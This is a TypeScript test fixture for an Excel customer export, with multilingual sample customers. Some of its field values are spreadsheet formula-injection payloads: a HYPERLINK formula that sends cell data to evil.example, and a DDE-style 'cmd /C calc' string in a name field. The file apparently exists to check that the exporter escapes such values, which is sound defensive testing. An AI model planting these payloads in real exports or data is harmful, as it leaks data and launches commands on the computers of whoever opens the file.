import type { ExportBeginInput } from '@shared/ipc/contract-export'
import type { ExportCell, ExportColumn } from '@shared/export/export-spec'

/** A customer the way the renderer sends it: domain values, one per column below. */
export interface SampleCustomer {
  createdAt: number
  name: string
  phone: string | null
  email: string | null
  consentEmail: boolean
  consentEmailAt: number
  orderCount: number
  totalValue: number | null
  lastOrderAt: number
  discount: number
  blocked: 0 | 1
  notes: string
}

export const customerColumns: ExportColumn[] = [
  { key: 'createdAt', header: 'Utworzono', type: 'datetime' },
  { key: 'name', header: 'Imię i nazwisko', type: 'text' },
  { key: 'phone', header: 'Telefon', type: 'text' },
  { key: 'email', header: 'E-mail', type: 'text' },
  { key: 'consentEmail', header: 'Zgoda e-mail', type: 'flag' },
  { key: 'consentEmailAt', header: 'Zgoda e-mail — data', type: 'date' },
  { key: 'orderCount', header: 'Zamówienia', type: 'number' },
  { key: 'totalValue', header: 'Wartość łączna', type: 'money' },
  { key: 'lastOrderAt', header: 'Ostatnie zamówienie', type: 'datetime' },
  { key: 'discount', header: 'Rabat', type: 'percent' },
  { key: 'blocked', header: 'Zablokowany', type: 'flag' },
  { key: 'notes', header: 'Notatki', type: 'text' }
]

export function customerRow(customer: SampleCustomer): ExportCell[] {
  return [
    customer.createdAt,
    customer.name,
    customer.phone,
    customer.email,
    customer.consentEmail,
    customer.consentEmailAt,
    customer.orderCount,
    customer.totalValue,
    customer.lastOrderAt,
    customer.discount,
    customer.blocked,
    customer.notes
  ]
}

const at = (y: number, m: number, d: number, h = 0, min = 0) => new Date(y, m - 1, d, h, min).getTime()

/** Names in all six languages, values that try to become formulas, and empty fields. */
export const sampleCustomers: SampleCustomer[] = [
  { createdAt: at(2026, 1, 15, 9, 30), name: 'Zażółć Gęślą-Jaźń', phone: '+48601234567', email: 'zazolc@example.pl', consentEmail: true, consentEmailAt: at(2026, 1, 15, 9, 31), orderCount: 12, totalValue: 123450, lastOrderAt: at(2026, 7, 15, 18, 5), discount: 10, blocked: 0, notes: 'Alergia: orzechy' },
  { createdAt: at(2025, 12, 31, 23, 45), name: 'Řehoř Žďárský', phone: '+420602123456', email: null, consentEmail: false, consentEmailAt: 0, orderCount: 0, totalValue: 0, lastOrderAt: 0, discount: 0, blocked: 1, notes: '' },
  { createdAt: at(2026, 3, 29, 2, 30), name: 'Олександра Ґудзь-Їжакевич', phone: null, email: 'oleksandra@example.ua', consentEmail: true, consentEmailAt: at(2026, 3, 29, 12), orderCount: 3, totalValue: 9999, lastOrderAt: at(2026, 10, 25, 2, 30), discount: 5, blocked: 0, notes: 'Любить каву без цукру' },
  { createdAt: at(2026, 6, 1, 12), name: 'Françoise Lefèvre-Œuvray', phone: '+33612345678', email: 'francoise@example.fr', consentEmail: false, consentEmailAt: at(2026, 6, 2), orderCount: 1, totalValue: 4550, lastOrderAt: at(2026, 6, 1, 12, 15), discount: 0, blocked: 0, notes: 'Table près de la fenêtre;\nsans gluten' },
  { createdAt: at(2026, 2, 10, 8), name: 'Цветелина Щерева-Ъглова', phone: '+359888123456', email: 'cvetelina@example.bg', consentEmail: true, consentEmailAt: at(2026, 2, 10, 8), orderCount: 7, totalValue: 70000, lastOrderAt: at(2026, 8, 8, 20), discount: 15, blocked: 0, notes: '"VIP", винаги маса 4' },
  { createdAt: at(2026, 4, 1, 17), name: "Siobhán O'Brien", phone: '+447700900123', email: 'siobhan@example.co.uk', consentEmail: false, consentEmailAt: 0, orderCount: 2, totalValue: null, lastOrderAt: at(2026, 4, 2, 9), discount: 0, blocked: 0, notes: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' },
  { createdAt: at(2026, 4, 2, 10), name: '@SUM(1+1)*cmd|\' /C calc\'!A0', phone: '-2+3', email: '+1+1', consentEmail: false, consentEmailAt: 0, orderCount: 0, totalValue: 0, lastOrderAt: 0, discount: 0, blocked: 0, notes: '\t=1+1' },
  { createdAt: at(2026, 4, 3, 11), name: 'Carriage Return', phone: null, email: null, consentEmail: false, consentEmailAt: 0, orderCount: 0, totalValue: 0, lastOrderAt: 0, discount: 0, blocked: 0, notes: '\r\n=2+2' }
]

export function beginInput(overrides: Partial<ExportBeginInput> = {}): ExportBeginInput {
  return {
    format: 'xlsx',
    fileName: { base: 'klienci' },
    locale: 'pl',
    currency: 'PLN',
    title: 'Klienci — eksport',
    fileTypeName: 'Skoroszyt programu Excel',
    flagLabels: { yes: 'Tak', no: 'Nie' },
    sheets: [{ key: 'customers', name: 'Klienci', columns: customerColumns }],
    ...overrides
  }
}
